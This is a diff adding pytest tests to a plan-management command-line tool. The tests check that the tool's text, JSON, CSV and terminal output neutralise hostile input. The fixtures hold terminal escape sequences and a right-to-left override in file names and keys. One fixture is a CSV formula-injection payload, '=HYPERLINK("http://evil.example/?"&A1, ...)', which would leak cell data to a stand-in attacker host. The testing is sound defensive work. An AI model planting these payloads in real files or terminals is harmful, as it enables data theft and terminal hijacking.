@@ -3,6 +3,10 @@ the right place, and never lets the file's bytes take over the terminal or a she
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+import re
 from pathlib import Path
 
 import pytest
@@ -75,3 +79,96 @@ def test_an_escape_past_unicode_is_named_where_it_is(
     assert f"{path}:2:15: error CCHC021: chuỗi thoát {escape} không hợp lệ" in output
     _, english = _validate(runner, path, "--lang", "en")
     assert f"invalid escape sequence {escape}: beyond U+10FFFF" in english
+
+
+# What an output may never carry raw: controls but tab and newline, bidirectional
+# controls, line and paragraph separators, U+FEFF and lone surrogates.
+UNSAFE = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
+    "\ufeff\ud800-\udfff]"
+)
+
+
+def _hostile_plan(folder: Path) -> Path:
+    """A file whose name holds an escape and a byte that is not UTF-8, with a key
+    holding a control character twice (a duplicate key quotes it)."""
+    path = folder / "k\x1b[2J\udcff.yaml"
+    path.write_text('"a\\e]8;;http://evil\\a": 1\n"a\\e]8;;http://evil\\a": 2\n', encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("output_format", ["text", "github", "json"])
+def test_no_output_carries_a_control_character(
+    runner: CliRunner, tmp_path: Path, output_format: str
+) -> None:
+    """File names and messages show a control character as a visible escape."""
+    path = _hostile_plan(tmp_path)
+    result = runner.invoke(app, ["validate", str(path), "--format", output_format])
+    assert result.exit_code == 1, result.output
+    assert UNSAFE.search(result.output) is None, ascii(result.output)
+    if output_format == "json":
+        document = json.loads(result.output)
+        assert document["files"][0]["file"] == str(path)
+        assert [d["code"] for d in document["diagnostics"]] == ["CCHC023", "CCHC002", "CCHC023"]
+    else:
+        assert "k\\x1b[2J\\xff.yaml" in result.output
+        assert 'khóa "a\\x1b]8;;http://evil\\x07" bị lặp lại' in result.output
+
+
+def test_the_excerpt_shows_an_invisible_character_and_points_at_it(
+    runner: CliRunner,
+) -> None:
+    """A raw right-to-left override is shown as \\u202e, the caret under its backslash."""
+    path = Path(__file__).parent / "cases" / "invalid" / "raw-bidi.yaml"
+    _, output = _validate(runner, path)
+    lines = output.splitlines()
+    assert lines[1] == "3 |   number: 10/KH-\\u202eTĐHKS"
+    assert lines[2] == "  |                 ^"
+
+
+def test_csv_cells_never_start_a_formula(runner: CliRunner, tmp_path: Path) -> None:
+    """Text that a spreadsheet would run (=, +, -, @, tab, CR first) gets a leading ',
+    while numbers, negative ones too, stay numbers (OWASP's CSV injection advice)."""
+    text = (
+        MINIMAL.read_text(encoding="utf-8")
+        .replace(
+            "description: Đăng tin, bài tuyên truyền CCHC",
+            """description: '=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")'""",
+        )
+        .replace(
+            "description: Khảo sát sự hài lòng sau khi trả kết quả",
+            'description: "-Khảo sát sự hài lòng"',
+        )
+        .replace("assignee: Đỗ Văn Q", 'assignee: "@Đỗ Văn Q"')
+        .replace("deadline: ongoing", "deadline: 2021-09-01")
+    )
+    plan = tmp_path / "2021.yaml"
+    plan.write_text(text, encoding="utf-8")
+    result = runner.invoke(
+        app, ["status", "--format", "csv", "--plan", str(plan), "--as-of", AS_OF.isoformat()]
+    )
+    assert result.exit_code == 0, result.output
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.output.lstrip("\ufeff")))}
+    assert (
+        rows["t01"]["description"] == """'=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")"""
+    )
+    assert rows["t02"]["description"] == "'-Khảo sát sự hài lòng"
+    assert rows["t02"]["assignee"] == "'@Đỗ Văn Q"
+    assert rows["t02"]["days_left"] == "-29"
+    assert rows["t02"]["due"] == "2021-09-01"
+    row = "\nt02,'-Khảo sát sự hài lòng,,registration,office,'@Đỗ Văn Q,2.1,2021-09-01,"
+    assert row + "2021-09-01,-29," in result.output
+
+
+def test_the_terminal_shows_a_control_character_as_an_escape() -> None:
+    """Plan text in a table is shown with visible escapes, should any reach it."""
+    from cchc_plan.output import terminal  # noqa: PLC0415
+    from cchc_plan.reading.validation import validate_file  # noqa: PLC0415
+
+    plan = validate_file(str(MINIMAL), as_of=AS_OF).plan
+    assert plan is not None
+    out = io.StringIO()
+    hostile = "Văn phòng\x1b[2J\u202eSở"
+    terminal.print_status(terminal.console(out), plan, [], [], as_of=AS_OF, unit_name=hostile)
+    assert "Văn phòng\\x1b[2J\\u202eSở" in out.getvalue()
+    assert UNSAFE.search(out.getvalue()) is None
